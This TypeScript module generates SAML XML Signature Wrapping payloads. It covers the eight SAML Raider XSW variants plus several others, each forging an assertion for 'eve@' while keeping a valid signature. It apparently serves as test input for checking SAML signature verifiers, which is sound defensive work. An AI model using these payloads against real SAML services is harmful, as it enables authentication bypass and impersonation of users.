/** A way to make a signature be found for one assertion while another is read. */
interface Wrapping {
  readonly name: string;
  /** @param xml an answer with one assertion, of which one or both are signed */
  readonly wrap: (xml: string) => string;
}

interface Parts {
  readonly xml: string;
  /** The first that there is. */
  readonly signature: string;
  readonly assertion: string;
  /** The assertion without its signature. */
  readonly bare: string;
  /** Says what the attacker wants, under an ID of its own, unsigned. */
  readonly evil: string;
}

const SIGNATURE = /<Signature .*?<\/Signature>/s;

function partsOf(xml: string): Parts {
  const assertion = /<saml:Assertion.*<\/saml:Assertion>/s.exec(xml)?.[0] ?? '';
  const bare = assertion.replace(SIGNATURE, '');
  const evil = bare.replace('>ada@', '>eve@').replace(/ ID="[^"]+"/, ' ID="_evil"');
  return { xml, signature: SIGNATURE.exec(xml)?.[0] ?? '', assertion, bare, evil };
}

const inSignature = (signature: string, what: string) =>
  signature.replace('</Signature>', `<Object>${what}</Object></Signature>`);
const after = (xml: string, mark: string, what: string) => xml.replace(mark, `${mark}${what}`);
const evilAnswer = (xml: string) =>
  xml
    .replace(SIGNATURE, '')
    .replace('>ada@', '>eve@')
    .replace(/ ID="[^"]+"/, ' ID="_evil-answer"')
    .replace(/(<saml:Assertion [^>]*ID=")[^"]+/, '$1_evil');
const withAssertion = (xml: string, assertion: string, instead: string) => xml.replace(assertion, () => instead);

/** The eight ways that SAML Raider numbers, and more. */
export const WRAPPINGS: readonly Wrapping[] = [
  {
    name: 'XSW1: another answer, and the signed one in its signature',
    wrap: (xml) => after(evilAnswer(xml), '</saml:Issuer>', inSignature(partsOf(xml).signature, xml)),
  },
  {
    name: 'XSW2: another answer, and the signed one before its signature',
    wrap: (xml) => after(evilAnswer(xml), '</saml:Issuer>', `${xml}${partsOf(xml).signature}`),
  },
  {
    name: 'XSW3: another assertion before the signed one',
    wrap: (xml) => after(xml, '</samlp:Status>', partsOf(xml).evil),
  },
  {
    name: 'XSW4: the signed assertion in another one',
    wrap: (xml) => {
      const { assertion, evil } = partsOf(xml);
      return withAssertion(
        xml,
        assertion,
        evil.replace('</saml:Assertion>', () => `${assertion}</saml:Assertion>`),
      );
    },
  },
  {
    name: 'XSW5: another assertion with the signature, and the original without it at the end',
    wrap: (xml) => {
      const { assertion, bare, evil, signature } = partsOf(xml);
      return withAssertion(xml, assertion, `${after(evil, '</saml:Issuer>', signature)}${bare}`);
    },
  },
  {
    name: 'XSW6: another assertion with the signature, and the original in that',
    wrap: (xml) => {
      const { assertion, bare, evil, signature } = partsOf(xml);
      return withAssertion(xml, assertion, after(evil, '</saml:Issuer>', inSignature(signature, bare)));
    },
  },
  {
    name: 'XSW7: another assertion in Extensions',
    wrap: (xml) => after(xml, '</samlp:Status>', `<samlp:Extensions>${partsOf(xml).evil}</samlp:Extensions>`),
  },
  {
    name: 'XSW8: the original in an Object beside the signature, in another assertion',
    wrap: (xml) => {
      const { assertion, bare, evil, signature } = partsOf(xml);
      const object = `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${bare}</Object>`;
      return withAssertion(xml, assertion, after(evil, '</saml:Issuer>', `${signature}${object}`));
    },
  },
  {
    name: 'another assertion under the ID of the signed one',
    wrap: (xml) => {
      const { bare } = partsOf(xml);
      return after(xml, '</samlp:Status>', bare.replace('>ada@', '>eve@'));
    },
  },
  {
    name: 'an element with the ID of the assertion as xml:id',
    wrap: (xml) => {
      const id = /<saml:Assertion [^>]*ID="([^"]+)/.exec(xml)?.[1];
      return after(xml, '</samlp:Status>', `<samlp:Extensions xml:id="${id}"/>`);
    },
  },
  {
    name: 'an assertion of another namespace',
    wrap: (xml) => after(xml, '</samlp:Status>', '<Assertion xmlns="urn:evil" ID="_evil"/>'),
  },
  {
    name: 'the signature moved out of what it signs',
    wrap: (xml) => {
      const { signature } = partsOf(xml);
      return after(xml.replace(signature, ''), '</samlp:Status>', `<samlp:Extensions>${signature}</samlp:Extensions>`);
    },
  },
  {
    name: 'a second signature beside the first',
    wrap: (xml) => {
      const { signature } = partsOf(xml);
      return xml.replace(signature, () => `${signature}${signature}`);
    },
  },
  {
    name: 'a signature of the whole, by no ID',
    wrap: (xml) => xml.replace(/URI="#[^"]+"/, 'URI=""'),
  },
];
